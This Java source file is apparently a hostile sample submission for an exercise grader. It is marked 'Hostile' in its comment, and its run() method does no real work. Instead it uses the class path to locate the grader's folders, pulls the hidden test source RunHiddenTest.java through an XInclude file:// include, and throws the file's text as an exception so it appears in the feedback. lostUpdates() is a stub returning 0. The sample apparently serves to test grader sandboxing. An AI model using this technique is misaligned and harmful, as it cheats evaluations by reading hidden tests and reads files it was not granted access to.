package exercises.race;

import exercises.Counter;
import java.io.StringReader;
import javax.xml.parsers.DocumentBuilderFactory;
import org.xml.sax.InputSource;

/**
 * Hostile: no file API appears in the Java code. The class path names the grader's folders; from there the hidden
 * tests' sources are a few folders away, and an XML document that includes a file as text (XInclude) reads any text
 * file. The text is thrown as an exception message, which the tests would put into the feedback.
 */
public final class RaceDemo {

    private static final String TEST = "grader/hidden/src/test/java/lockstep/hidden/race/RunHiddenTest.java";

    private RaceDemo() {
    }

    public static long run(Counter counter, int threads, int perThread) throws Exception {
        String classPath = System.getProperty("java.class.path");
        int engine = classPath.indexOf("grader/engine/");
        String repository = engine < 0 ? "/" : classPath.substring(classPath.lastIndexOf(':', engine) + 1, engine);
        String document = "<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file://" + repository + TEST
                + "' parse='text'/></r>";
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        factory.setXIncludeAware(true);
        String source = factory.newDocumentBuilder().parse(new InputSource(new StringReader(document)))
                .getDocumentElement().getTextContent();
        throw new IllegalStateException("the hidden test:\n" + source);
    }

    public static long lostUpdates(int threads, int perThread, int attempts) {
        return 0;
    }
}
